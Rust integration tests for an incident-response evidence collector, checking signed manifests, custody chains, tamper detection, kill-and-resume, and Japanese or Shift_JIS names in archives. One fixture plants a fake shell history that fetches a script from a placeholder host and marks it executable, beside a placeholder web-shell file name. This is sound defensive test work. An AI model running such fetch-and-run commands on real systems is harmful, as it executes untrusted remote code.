//! Integration tests of ir110-evidence: collection, tamper detection, kill -9 and resume,
//! Japanese names through archives, unreadable files, custody, the preservation record.

// Tests panic on purpose when an expectation fails.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs;
use std::io::{self, Read};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use ir110_evidence::{
    ArchiveFormat, CaseMeta, ChainProblem, CollectOptions, CollectSummary, CustodyAction,
    CustodyEvent, EvidenceError, ProfileChoice, SigningKey, SourceReader, VerifyFailure,
    archive_package, collect, custody_add, custody_show, encrypt_file, open_package,
    preservation_record, verify,
};
use ir110_model::Lang;
use sha2::{Digest, Sha256};

fn key() -> SigningKey {
    SigningKey::from_bytes(&[42u8; 32])
}

fn meta() -> CaseMeta {
    CaseMeta {
        case: "IR-2026-0042".to_owned(),
        examiner: "山田 太郎".to_owned(),
        witness: Some("佐藤 花子".to_owned()),
        place: Some("株式会社サンプル 本社 3F サーバールーム".to_owned()),
        note: Some("夜間保全".to_owned()),
        source_description: Some(
            "WEB-01 のルートファイルシステム（読み取り専用マウント）".to_owned(),
        ),
    }
}

fn write(root: &Path, rel: &str, content: &[u8]) -> PathBuf {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, content).unwrap();
    p
}

/// A small Linux-layout tree. Returns every path created (files and directories), relative.
fn linux_tree(root: &Path) -> Vec<PathBuf> {
    let files: &[(&str, &[u8])] = &[
        (
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/bash\ntaro:x:1000:1000::/home/taro:/bin/bash\n",
        ),
        ("etc/group", b"root:x:0:\n"),
        ("etc/hostname", b"web-01\n"),
        (
            "var/log/auth.log",
            b"Nov 26 01:02:03 web-01 sshd[1]: Accepted password for taro\n",
        ),
        ("var/log/syslog", b"Nov 26 01:02:04 web-01 cron[2]: job\n"),
        (
            "var/log/アプリ/エラー記録.log",
            "2026-11-26 エラー: 接続失敗\n".as_bytes(),
        ),
        (
            "home/taro/.bash_history",
            b"wget http://x/y.sh\nchmod +x y.sh\n",
        ),
        (
            "home/taro/ドキュメント/メモ.txt",
            "私的なメモ（収集対象外）\n".as_bytes(),
        ),
        ("tmp/y.sh", b"#!/bin/sh\n"),
        ("var/www/html/index.php", b"<?php echo 1;"),
    ];
    let mut created = Vec::new();
    for (rel, content) in files {
        write(root, rel, content);
        let mut p = PathBuf::from(rel);
        created.push(p.clone());
        while p.pop() && !p.as_os_str().is_empty() {
            created.push(p.clone());
        }
    }
    created.sort();
    created.dedup();
    created
}

fn options<'a>(src: &Path, out: &Path, key: &'a SigningKey) -> CollectOptions<'a> {
    let mut o = CollectOptions::new(src, out, meta(), key);
    o.profile = ProfileChoice::Builtin("linux".to_owned());
    o.threads = 2;
    o
}

fn collect_linux(src: &Path, out: &Path) -> CollectSummary {
    let k = key();
    collect(&options(src, out, &k)).unwrap()
}

fn manifest_json(pkg: &Path) -> serde_json::Value {
    serde_json::from_slice(&fs::read(pkg.join("manifest.json")).unwrap()).unwrap()
}

#[test]
fn collects_lists_and_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let out = dir.path().join("pkg");
    let s = collect_linux(&src, &out);
    assert_eq!(s.profile, "linux");
    assert_eq!(s.counts.matched, 7, "{s:#?}");
    assert_eq!(s.counts.copied, 7);
    assert_eq!(s.counts.failed, 0);
    assert_eq!(
        s.counts.listed_by_targets, 2,
        "tmp/y.sh and var/www/html/index.php"
    );
    assert_eq!(s.failed, vec![]);
    assert!(s.empty_targets.contains(&"journal".to_owned()));

    let m = manifest_json(&out);
    let paths: Vec<&str> = m["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        [
            "/etc/group",
            "/etc/hostname",
            "/etc/passwd",
            "/home/taro/.bash_history",
            "/var/log/auth.log",
            "/var/log/syslog",
            "/var/log/アプリ/エラー記録.log",
        ]
    );
    assert_eq!(m["case"], "IR-2026-0042");
    assert_eq!(m["source"]["hostname"], "web-01");
    let auth = m["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/var/log/auth.log")
        .unwrap();
    let content = fs::read(src.join("var/log/auth.log")).unwrap();
    assert_eq!(auth["sha256"], hex::encode(Sha256::digest(&content)));
    assert_eq!(auth["stored"], "files/var/log/auth.log");
    assert_eq!(
        fs::read(out.join("files/var/log/auth.log")).unwrap(),
        content
    );

    let listing = fs::read_to_string(out.join("listing.csv")).unwrap();
    assert!(
        listing.starts_with(
            "path,type,mode,uid,gid,size,inode,mtime,atime,ctime,crtime,link_target\n"
        )
    );
    assert!(
        listing.contains("/home/taro/ドキュメント/メモ.txt,file,-rw-"),
        "{listing}"
    );
    assert_eq!(
        listing.lines().count(),
        1 + 10 + 10,
        "header + files + directories"
    );
    let tmp_listing = fs::read_to_string(out.join("listings/temp-listing.csv")).unwrap();
    assert_eq!(tmp_listing.lines().count(), 2);

    let report = verify(&out).unwrap();
    assert_eq!(report.failures, vec![]);
    assert_eq!(
        report.files_checked,
        7 + 3,
        "collected files + three listings"
    );
    assert_eq!(report.custody_entries, 1);
    assert_eq!(
        report.signer_fingerprint.as_deref(),
        Some(s.signer_fingerprint.as_str())
    );
    let custody = custody_show(&out).unwrap();
    assert_eq!(custody[0].action, CustodyAction::Collected);
    assert_eq!(custody[0].by, "山田 太郎");

    let pkg = open_package(&out).unwrap().unwrap();
    let entries: Vec<_> = pkg.entries().collect();
    assert_eq!(entries.len(), 7);
    let e = entries
        .iter()
        .find(|e| e.original_path == "/var/log/auth.log")
        .unwrap();
    assert_eq!(fs::read(&e.local_path).unwrap(), content);
    let sf = e.source_file(ir110_model::SourceKind::Text(
        ir110_model::TextFormat::Syslog,
    ));
    assert_eq!(sf.display_path, "/var/log/auth.log");
    assert_eq!(sf.sha256.as_deref(), auth["sha256"].as_str());
    assert!(
        open_package(&src).unwrap().is_none(),
        "a plain directory is not a package"
    );
    let other_zip = dir.path().join("other.zip");
    {
        let mut z = zip::ZipWriter::new(fs::File::create(&other_zip).unwrap());
        z.start_file("readme.txt", zip::write::SimpleFileOptions::default())
            .unwrap();
        z.finish().unwrap();
    }
    assert!(
        open_package(&other_zip).unwrap().is_none(),
        "a zip without a manifest is not a package"
    );
    assert!(open_package(&src.join("etc/passwd")).unwrap().is_none());
    assert!(matches!(
        verify(&src),
        Err(EvidenceError::NotAPackage { .. })
    ));
}

/// Metadata and content of every path, read without touching atime.
fn snapshot(
    root: &Path,
    paths: &[PathBuf],
) -> BTreeMap<PathBuf, (u64, u32, SystemTime, SystemTime, String)> {
    use std::os::unix::fs::MetadataExt;
    let mut snap = BTreeMap::new();
    for rel in paths {
        let p = root.join(rel);
        let m = fs::symlink_metadata(&p).unwrap();
        let hash = if m.is_file() {
            let mut f = fs::OpenOptions::new()
                .read(true)
                .custom_flags(rustix::fs::OFlags::NOATIME.bits() as i32)
                .open(&p)
                .unwrap();
            let mut buf = Vec::new();
            f.read_to_end(&mut buf).unwrap();
            hex::encode(Sha256::digest(&buf))
        } else {
            String::new()
        };
        snap.insert(
            rel.clone(),
            (
                m.size(),
                m.mode(),
                m.modified().unwrap(),
                m.accessed().unwrap(),
                hash,
            ),
        );
    }
    snap
}

#[test]
fn collection_leaves_source_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    let paths = linux_tree(&src);
    // atime older than mtime: under `relatime` any ordinary read or directory listing would
    // now update atime, so an unchanged atime proves the collection did not cause one.
    let mtime = SystemTime::now() - Duration::from_secs(3600);
    let atime = mtime - Duration::from_secs(86400);
    for rel in paths.iter().rev() {
        let p = src.join(rel);
        let f = fs::File::open(&p).unwrap();
        f.set_times(fs::FileTimes::new().set_accessed(atime).set_modified(mtime))
            .unwrap();
    }
    // Is atime meaningful here? An ordinary read of a control file must update it.
    let control = write(dir.path(), "control", b"x");
    fs::File::open(&control)
        .unwrap()
        .set_times(fs::FileTimes::new().set_accessed(atime).set_modified(mtime))
        .unwrap();
    fs::read(&control).unwrap();
    let atime_meaningful = fs::metadata(&control).unwrap().accessed().unwrap() != atime;
    if !atime_meaningful {
        eprintln!(
            "note: this file system does not update atime on read (noatime); atime is compared but proves less"
        );
    }

    let before = snapshot(&src, &paths);
    let out = dir.path().join("pkg");
    let s = collect_linux(&src, &out);
    assert_eq!(s.counts.copied, 7);
    let after = snapshot(&src, &paths);
    assert_eq!(before.len(), paths.len());
    for (rel, b) in &before {
        assert_eq!(Some(b), after.get(rel), "{} changed", rel.display());
    }
    assert_eq!(before, after);
}

fn copy_tree(from: &Path, to: &Path) {
    for e in walkdir::WalkDir::new(from) {
        let e = e.unwrap();
        let dest = to.join(e.path().strip_prefix(from).unwrap());
        if e.file_type().is_dir() {
            fs::create_dir_all(&dest).unwrap();
        } else {
            fs::copy(e.path(), &dest).unwrap();
        }
    }
}

fn flip(path: &Path, at: usize) {
    let mut b = fs::read(path).unwrap();
    b[at] ^= 0x01;
    fs::write(path, b).unwrap();
}

#[test]
fn tampering_is_caught_naming_the_culprit() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let pkg = dir.path().join("pkg");
    collect_linux(&src, &pkg);
    let mut ev = CustodyEvent::new(CustodyAction::Sealed, "山田 太郎");
    ev.note = Some("封印番号 A-001".to_owned());
    custody_add(&pkg, &ev, &key()).unwrap();
    assert_eq!(verify(&pkg).unwrap().failures, vec![]);
    let copy = |name: &str| {
        let p = dir.path().join(name);
        copy_tree(&pkg, &p);
        p
    };

    // A collected file.
    let p = copy("file");
    flip(&p.join("files/var/log/auth.log"), 5);
    let f = verify(&p).unwrap().failures;
    assert_eq!(f.len(), 1, "{f:#?}");
    match &f[0] {
        VerifyFailure::FileChanged {
            path,
            stored,
            expected,
            actual,
            expected_size,
            actual_size,
        } => {
            assert_eq!(path, "/var/log/auth.log");
            assert_eq!(stored, "files/var/log/auth.log");
            assert_ne!(expected, actual);
            assert_eq!(expected_size, actual_size);
        }
        other => panic!("{other:?}"),
    }
    assert!(
        f[0].to_string()
            .starts_with("/var/log/auth.log: content changed (SHA-256 expected ")
    );

    // The manifest (the case reference digit), keeping it valid JSON.
    let p = copy("manifest");
    let text = fs::read(p.join("manifest.json")).unwrap();
    let at = text.windows(12).position(|w| w == b"IR-2026-0042").unwrap() + 11;
    flip(&p.join("manifest.json"), at);
    let f = verify(&p).unwrap().failures;
    assert_eq!(f.len(), 2, "{f:#?}");
    assert_eq!(f[0], VerifyFailure::SignatureInvalid);
    assert!(
        matches!(
            f[1],
            VerifyFailure::Custody(ChainProblem::Broken { entry: 1, .. })
        ),
        "{f:#?}"
    );
    assert!(
        f[0].to_string()
            .contains("manifest.json does not match its signature")
    );

    // The signature.
    let p = copy("signature");
    flip(&p.join("manifest.sig"), 10);
    assert_eq!(
        verify(&p).unwrap().failures,
        vec![VerifyFailure::SignatureInvalid]
    );

    // The last custody entry (no later entry chains it: its signature catches it).
    let p = copy("custody-last");
    let log = fs::read_to_string(p.join("custody.jsonl")).unwrap();
    let second = log.find('\n').unwrap() + 1;
    let at = second + log[second..].find("A-001").unwrap() + 4;
    flip(&p.join("custody.jsonl"), at);
    let f = verify(&p).unwrap().failures;
    assert_eq!(
        f,
        vec![VerifyFailure::Custody(ChainProblem::Signature { entry: 2 })]
    );
    assert_eq!(
        f[0].to_string(),
        "custody entry 2: signature does not verify (the entry was changed)"
    );

    // The first custody entry: its signature and the next entry's link both fail.
    let p = copy("custody-first");
    let at = log.find("山田").unwrap();
    flip(&p.join("custody.jsonl"), at + 2);
    let f = verify(&p).unwrap().failures;
    assert_eq!(f.len(), 2, "{f:#?}");
    assert!(
        matches!(
            f[0],
            VerifyFailure::Custody(ChainProblem::Signature { entry: 1 })
                | VerifyFailure::Custody(ChainProblem::Unreadable { entry: 1, .. })
        ),
        "{f:#?}"
    );
    assert!(
        matches!(
            f[1],
            VerifyFailure::Custody(ChainProblem::Broken { entry: 2, .. })
        ),
        "{f:#?}"
    );

    // Adding a file to the package, or removing one.
    let p = copy("extra");
    write(&p, "files/var/log/planted.log", b"x");
    fs::remove_file(p.join("files/etc/group")).unwrap();
    let f = verify(&p).unwrap().failures;
    assert_eq!(
        f,
        vec![
            VerifyFailure::FileMissing {
                path: "/etc/group".to_owned(),
                stored: "files/etc/group".to_owned()
            },
            VerifyFailure::UnexpectedFile {
                stored: "files/var/log/planted.log".to_owned()
            },
        ]
    );
    // A broken chain is never extended.
    let p = dir.path().join("custody-last");
    assert!(matches!(
        custody_add(&p, &ev, &key()),
        Err(EvidenceError::Custody { .. })
    ));
}

/// A reader that fails for one file name, as a locked or unreadable file does.
struct FailingReader(&'static str);
impl SourceReader for FailingReader {
    fn open(&self, path: &Path) -> io::Result<Box<dyn Read + Send>> {
        if path.file_name() == Some(OsStr::new(self.0)) {
            return Err(io::Error::from(io::ErrorKind::PermissionDenied));
        }
        ir110_evidence::ReadOnlyOpener.open(path)
    }
}

#[test]
fn unreadable_file_is_recorded_and_the_run_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let out = dir.path().join("pkg");
    let k = key();
    let mut o = options(&src, &out, &k);
    o.reader = &FailingReader("auth.log");
    let s = collect(&o).unwrap();
    assert_eq!(s.counts.matched, 7);
    assert_eq!(s.counts.copied, 6);
    assert_eq!(s.counts.failed, 1);
    assert_eq!(
        s.failed,
        vec![(
            "/var/log/auth.log".to_owned(),
            "open failed: permission denied".to_owned()
        )]
    );
    assert!(!out.join("files/var/log/auth.log").exists());
    let r = verify(&out).unwrap();
    assert_eq!(r.failures, vec![]);
    assert_eq!(r.recorded_errors, 1);
    let html = preservation_record(&out, Lang::Ja).unwrap();
    assert!(html.contains("取得できなかったもの"));
    assert!(html.contains("/var/log/auth.log"));
}

/// A reader that yields more than `stat` said, as a log written to during collection does.
struct GrowingReader;
impl SourceReader for GrowingReader {
    fn open(&self, path: &Path) -> io::Result<Box<dyn Read + Send>> {
        let f = fs::File::open(path)?;
        if path.file_name() == Some(OsStr::new("syslog")) {
            return Ok(Box::new(f.chain(&b"appended while collecting\n"[..])));
        }
        Ok(Box::new(f))
    }
}

#[test]
fn file_growing_during_collection_is_collected_and_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let out = dir.path().join("pkg");
    let k = key();
    let mut o = options(&src, &out, &k);
    o.reader = &GrowingReader;
    let s = collect(&o).unwrap();
    assert_eq!(s.counts.copied, 7);
    assert_eq!(s.counts.failed, 0);
    assert_eq!(s.failed, vec![]);
    assert_eq!(
        s.changed_while_read,
        vec![(
            "/var/log/syslog".to_owned(),
            "size changed while reading: 36 bytes at listing time, 62 bytes read".to_owned()
        )]
    );
    assert_eq!(verify(&out).unwrap().failures, vec![]);
    let html = preservation_record(&out, Lang::Ja).unwrap();
    assert!(html.contains("読み取り中に変化したファイル"));
    assert_eq!(
        html.matches("/var/log/syslog").count(),
        1,
        "listed once, not as missing"
    );
}

#[test]
fn chmod_000_file_is_recorded_when_not_root() {
    if rustix::process::geteuid().is_root() {
        eprintln!(
            "skipped: running as root, which reads chmod 000 files (the injected-reader test covers this path)"
        );
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let locked = src.join("var/log/syslog");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).unwrap();
    let out = dir.path().join("pkg");
    let s = collect_linux(&src, &out);
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(s.counts.failed, 1);
    assert_eq!(s.failed[0].0, "/var/log/syslog");
    assert!(s.failed[0].1.contains("ermission denied"), "{:?}", s.failed);
}

/// Slow reads so that the parent test can kill the collection in the middle.
struct SlowReader;
struct Slow(fs::File, bool);
impl Read for Slow {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.1 {
            std::thread::sleep(Duration::from_millis(40));
        }
        self.1 = true;
        let n = buf.len().min(8192);
        self.0.read(&mut buf[..n])
    }
}
impl SourceReader for SlowReader {
    fn open(&self, path: &Path) -> io::Result<Box<dyn Read + Send>> {
        Ok(Box::new(Slow(fs::File::open(path)?, false)))
    }
}

const CHILD_ENV: &str = "IR110_EVIDENCE_TEST_CHILD";

/// Not a test on its own: the collection process that `kill_9_then_resume` kills.
#[test]
fn child_collector() {
    let Ok(arg) = std::env::var(CHILD_ENV) else {
        return;
    };
    let (src, out) = arg.split_once('|').unwrap();
    let k = key();
    let mut o = options(Path::new(src), Path::new(out), &k);
    o.reader = &SlowReader;
    o.threads = 1;
    collect(&o).unwrap();
}

#[test]
fn kill_9_then_resume() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    for i in 0..30 {
        let content: Vec<u8> = (0..40_000u32).map(|b| (b * 7 + i) as u8).collect();
        write(&src, &format!("var/log/app/app-{i:02}.log"), &content);
    }
    let out = dir.path().join("pkg");
    let mut child = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "child_collector",
            "--exact",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(CHILD_ENV, format!("{}|{}", src.display(), out.display()))
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let journal = out.join(".ir110-collect/journal.jsonl");
    let started = std::time::Instant::now();
    loop {
        let lines = fs::read_to_string(&journal)
            .map(|s| s.lines().count())
            .unwrap_or(0);
        if lines >= 6 {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "child made no progress"
        );
        assert!(
            child.try_wait().unwrap().is_none(),
            "child finished before it was killed"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    child.kill().unwrap(); // SIGKILL
    let status = child.wait().unwrap();
    assert!(!status.success());
    let done_before = fs::read_to_string(&journal).unwrap().lines().count();
    assert!(
        done_before < 37,
        "killed before the end ({done_before} files done)"
    );
    assert!(!out.join("manifest.json").exists());
    assert!(matches!(
        verify(&out),
        Err(EvidenceError::NotAPackage { .. })
    ));

    // A new collection into the same directory is refused; resume finishes it.
    let k = key();
    assert!(matches!(
        collect(&options(&src, &out, &k)),
        Err(EvidenceError::OutputNotEmpty { .. })
    ));
    let mut o = options(&src, &out, &k);
    o.resume = true;
    let s = collect(&o).unwrap();
    assert_eq!(s.counts.matched, 37);
    assert_eq!(s.counts.copied, 37);
    assert!(
        s.reused >= 6 && s.reused as usize <= done_before,
        "reused {} of {done_before}",
        s.reused
    );
    let m = manifest_json(&out);
    assert_eq!(m["resumed"], 1);
    let mut paths: Vec<String> = m["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_owned())
        .collect();
    let n = paths.len();
    paths.dedup();
    assert_eq!(paths.len(), n, "every file exactly once");
    assert_eq!(n, 37);
    let r = verify(&out).unwrap();
    assert_eq!(r.failures, vec![]);
    assert_eq!(r.files_checked, 37 + 3);
    // Nothing left to resume.
    assert!(matches!(
        collect(&o),
        Err(EvidenceError::NothingToResume { .. })
    ));
}

/// Central-directory entries of a zip: (name bytes, UTF-8 flag).
fn zip_central_names(bytes: &[u8]) -> Vec<(Vec<u8>, bool)> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(pos) = bytes[i..].windows(4).position(|w| w == b"PK\x01\x02") {
        let h = i + pos;
        let flags = u16::from_le_bytes([bytes[h + 8], bytes[h + 9]]);
        let len = u16::from_le_bytes([bytes[h + 28], bytes[h + 29]]) as usize;
        out.push((bytes[h + 46..h + 46 + len].to_vec(), flags & (1 << 11) != 0));
        i = h + 46 + len;
    }
    out
}

#[test]
fn japanese_names_survive_collection_and_archives() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    // A Shift_JIS-era name (証拠.log) that is not UTF-8.
    let sjis = src.join(OsStr::from_bytes(b"var/log/\x8f\xd8\x8b\x92.log"));
    fs::write(&sjis, b"sjis named\n").unwrap();
    let out = dir.path().join("保全パッケージ");
    let s = collect_linux(&src, &out);
    assert_eq!(s.counts.copied, 8);
    let m = manifest_json(&out);
    let e = m["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/var/log/証拠.log")
        .unwrap();
    assert_eq!(e["path_bytes"], "7661722f6c6f672f8fd88b922e6c6f67");
    assert_eq!(e["path_decoded_as"], "shift_jis");
    assert_eq!(e["stored"], "files/var/log/%8F%D8%8B%92.log");
    assert_eq!(
        fs::read(out.join("files/var/log/アプリ/エラー記録.log")).unwrap(),
        fs::read(src.join("var/log/アプリ/エラー記録.log")).unwrap()
    );

    for format in [ArchiveFormat::Zip, ArchiveFormat::TarZst] {
        let dest = dir
            .path()
            .join(format!("保全パッケージ.{}", format.extension()));
        let a = archive_package(&out, format, &dest).unwrap();
        let bytes = fs::read(&dest).unwrap();
        assert_eq!(a.sha256, hex::encode(Sha256::digest(&bytes)));
        let sum = fs::read_to_string(format!("{}.sha256", dest.display())).unwrap();
        assert_eq!(
            sum,
            format!("{}  保全パッケージ.{}\n", a.sha256, format.extension())
        );
        if format == ArchiveFormat::Zip {
            let names = zip_central_names(&bytes);
            let jp = names
                .iter()
                .find(|(n, _)| n.ends_with("エラー記録.log".as_bytes()))
                .unwrap();
            assert!(jp.1, "UTF-8 flag set on Japanese names");
            assert!(
                names
                    .iter()
                    .all(|(n, _)| n.starts_with("保全パッケージ/".as_bytes()))
            );
        }
        let r = verify(&dest).unwrap();
        assert_eq!(r.failures, vec![], "{format:?}");
        // Damage in transport: one byte in the middle of the archive.
        let damaged = dir.path().join(format!("damaged.{}", format.extension()));
        fs::copy(&dest, &damaged).unwrap();
        fs::copy(
            format!("{}.sha256", dest.display()),
            format!("{}.sha256", damaged.display()),
        )
        .unwrap();
        flip(&damaged, bytes.len() / 2);
        let f = verify(&damaged).unwrap().failures;
        assert!(
            matches!(f[0], VerifyFailure::ArchiveChanged { .. }),
            "{format:?}: {f:#?}"
        );
        assert!(
            f[1..].iter().all(|x| matches!(
                x,
                VerifyFailure::ArchiveDamaged { .. } | VerifyFailure::FileChanged { .. }
            )),
            "{format:?}: {f:#?}"
        );
        // Without the .sha256 file only the readers' own checks remain: damage in a zip
        // header field that readers ignore would go unseen, which is why the file exists.
        let damaged2 = dir.path().join(format!("damaged2.{}", format.extension()));
        fs::copy(&damaged, &damaged2).unwrap();
        let f2 = verify(&damaged2).unwrap().failures;
        assert_eq!(f2, f[1..].to_vec(), "{format:?}");
        assert_eq!(r.files_checked, 8 + 3);
        let pkg = open_package(&dest).unwrap().unwrap();
        let root = pkg.root().to_path_buf();
        let entries: Vec<_> = pkg.entries().collect();
        let jp = entries
            .iter()
            .find(|e| e.original_path == "/var/log/アプリ/エラー記録.log")
            .unwrap();
        assert_eq!(
            fs::read_to_string(&jp.local_path).unwrap(),
            "2026-11-26 エラー: 接続失敗\n"
        );
        let sj = entries
            .iter()
            .find(|e| e.original_path == "/var/log/証拠.log")
            .unwrap();
        assert_eq!(fs::read(&sj.local_path).unwrap(), b"sjis named\n");
        drop(pkg);
        assert!(!root.exists(), "extraction removed on drop");
    }
}

#[test]
fn zip_with_shift_jis_names_from_windows_is_read() {
    // Japanese Windows' "compressed folder" writes names in Shift_JIS without the UTF-8 flag.
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    write(&src, "var/log/証拠.log", b"evidence\n");
    let out = dir.path().join("pkg");
    collect_linux(&src, &out);
    let dest = dir.path().join("windows.zip");
    {
        let mut zip = zip::ZipWriter::new(fs::File::create(&dest).unwrap());
        for e in walkdir::WalkDir::new(&out).sort_by_file_name() {
            let e = e.unwrap();
            if !e.file_type().is_file() {
                continue;
            }
            let rel = e
                .path()
                .strip_prefix(&out)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if rel.contains("アプリ") {
                continue; // only one non-ASCII name, patched below
            }
            let name = format!("pkg/{}", rel.replace("証拠", "QQQQ"));
            zip.start_file(name, zip::write::SimpleFileOptions::default())
                .unwrap();
            io::copy(&mut fs::File::open(e.path()).unwrap(), &mut zip).unwrap();
        }
        zip.finish().unwrap();
    }
    let mut bytes = fs::read(&dest).unwrap();
    let mut patched = 0;
    while let Some(p) = bytes.windows(8).position(|w| w == b"QQQQ.log") {
        bytes[p..p + 4].copy_from_slice(b"\x8f\xd8\x8b\x92");
        patched += 1;
    }
    assert_eq!(patched, 2, "local header and central directory");
    fs::write(&dest, &bytes).unwrap();
    assert!(zip_central_names(&bytes).iter().all(|(_, utf8)| !utf8));

    let pkg = open_package(&dest).unwrap().unwrap();
    let e = pkg
        .entries()
        .find(|e| e.original_path == "/var/log/証拠.log")
        .unwrap();
    assert_eq!(fs::read(&e.local_path).unwrap(), b"evidence\n");
    let f = verify(&dest).unwrap().failures;
    // The one left-out file is reported as missing: every other name matched.
    assert_eq!(
        f,
        vec![VerifyFailure::FileMissing {
            path: "/var/log/アプリ/エラー記録.log".to_owned(),
            stored: "files/var/log/アプリ/エラー記録.log".to_owned()
        }]
    );
}

#[test]
fn custody_record_and_archive_sidecar() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let out = dir.path().join("pkg");
    let s = collect_linux(&src, &out);
    let k = key();
    let mut t = CustodyEvent::new(CustodyAction::Transferred, "山田 太郎");
    t.to = Some("鈴木 一郎（ラボ）".to_owned());
    t.note = Some("宅配便 1234-5678".to_owned());
    custody_add(&out, &t, &k).unwrap();
    let other = SigningKey::from_bytes(&[9u8; 32]);
    custody_add(
        &out,
        &CustodyEvent::new(CustodyAction::Received, "鈴木 一郎"),
        &other,
    )
    .unwrap();
    let entries = custody_show(&out).unwrap();
    assert_eq!(
        entries.iter().map(|e| e.action).collect::<Vec<_>>(),
        vec![
            CustodyAction::Collected,
            CustodyAction::Transferred,
            CustodyAction::Received
        ]
    );
    assert_eq!(
        entries.iter().map(|e| e.seq).collect::<Vec<_>>(),
        vec![1, 2, 3]
    );
    let r = verify(&out).unwrap();
    assert_eq!(r.failures, vec![]);
    assert_eq!(r.custody_entries, 3);

    let ja = preservation_record(&out, Lang::Ja).unwrap();
    for needle in [
        "<html lang=\"ja\">",
        "保全記録書",
        "IR-2026-0042",
        "山田 太郎",
        "佐藤 花子",
        "引渡し",
        "受領",
        "鈴木 一郎（ラボ）",
        "宅配便 1234-5678",
        "署名欄",
        "JST",
        &s.manifest_sha256[..8],
        &s.signer_fingerprint[..8],
    ] {
        assert!(ja.contains(needle), "missing {needle}");
    }
    assert!(!ja.contains("evidence.record."), "every label has a text");
    let en = preservation_record(&out, Lang::En).unwrap();
    assert!(
        en.contains("Evidence Preservation Record")
            && en.contains("Transferred")
            && en.contains(" UTC")
    );

    // Archive packages keep new custody entries in a sidecar that continues the chain.
    let zip = dir.path().join("pkg.zip");
    archive_package(&out, ArchiveFormat::Zip, &zip).unwrap();
    custody_add(
        &zip,
        &CustodyEvent::new(CustodyAction::Sealed, "鈴木 一郎"),
        &other,
    )
    .unwrap();
    let sidecar = ir110_evidence::sidecar_path(&zip);
    assert_eq!(fs::read_to_string(&sidecar).unwrap().lines().count(), 1);
    let r = verify(&zip).unwrap();
    assert_eq!(r.failures, vec![]);
    assert_eq!(r.custody_entries, 4);
    let text = fs::read_to_string(&sidecar).unwrap();
    flip(&sidecar, text.find("sealed").unwrap() + 1);
    let f = verify(&zip).unwrap().failures;
    assert_eq!(f.len(), 1, "{f:#?}");
    assert!(
        matches!(
            f[0],
            VerifyFailure::Custody(ChainProblem::Signature { entry: 4 })
                | VerifyFailure::Custody(ChainProblem::Unreadable { entry: 4, .. })
        ),
        "{f:#?}"
    );
}

#[test]
fn encrypted_for_transport() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    linux_tree(&src);
    let out = dir.path().join("pkg");
    collect_linux(&src, &out);
    let tz = dir.path().join("pkg.tar.zst");
    archive_package(&out, ArchiveFormat::TarZst, &tz).unwrap();
    let identity = age::x25519::Identity::generate();
    let enc = dir.path().join("pkg.tar.zst.age");
    encrypt_file(&tz, &[identity.to_public().to_string()], &enc).unwrap();
    assert!(matches!(
        open_package(&enc),
        Err(EvidenceError::Encrypted { .. })
    ));
    let dec = age::Decryptor::new(fs::File::open(&enc).unwrap()).unwrap();
    let mut plain = Vec::new();
    dec.decrypt(std::iter::once(&identity as &dyn age::Identity))
        .unwrap()
        .read_to_end(&mut plain)
        .unwrap();
    assert_eq!(plain, fs::read(&tz).unwrap());
    assert!(matches!(
        encrypt_file(&tz, &["age1notakey".to_owned()], &enc),
        Err(EvidenceError::Encrypt { .. })
    ));
}

#[test]
fn auto_profile_detects_windows() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("C");
    write(
        &src,
        "Windows/System32/winevt/Logs/Security.evtx",
        b"ElfFile\0....",
    );
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    write(&src, "Users/taro/NTUSER.DAT", b"regf");
    write(
        &src,
        "Users/taro/AppData/Local/Microsoft/Windows/UsrClass.dat",
        b"regf",
    );
    write(&src, "Users/taro/Documents/見積書.xlsx", b"PK");
    write(&src, "inetpub/wwwroot/shell.aspx", b"<%");
    let out = dir.path().join("pkg");
    let k = key();
    let o = CollectOptions::new(&src, &out, meta(), &k);
    let s = collect(&o).unwrap();
    assert_eq!(s.profile, "windows");
    assert_eq!(s.counts.copied, 4);
    assert_eq!(s.counts.listed_by_targets, 1);
    assert!(s.empty_targets.contains(&"prefetch".to_owned()));
